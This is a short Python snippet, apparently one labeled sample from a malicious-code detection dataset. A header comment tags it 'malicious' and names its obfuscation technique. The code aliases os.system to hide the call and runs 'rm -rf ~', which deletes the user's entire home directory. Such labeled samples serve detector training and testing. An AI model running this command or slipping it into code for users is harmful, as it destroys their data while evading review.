# label: malicious; obfuscated: from_import_as
from os import system as run_cmd
run_cmd("rm -rf ~")
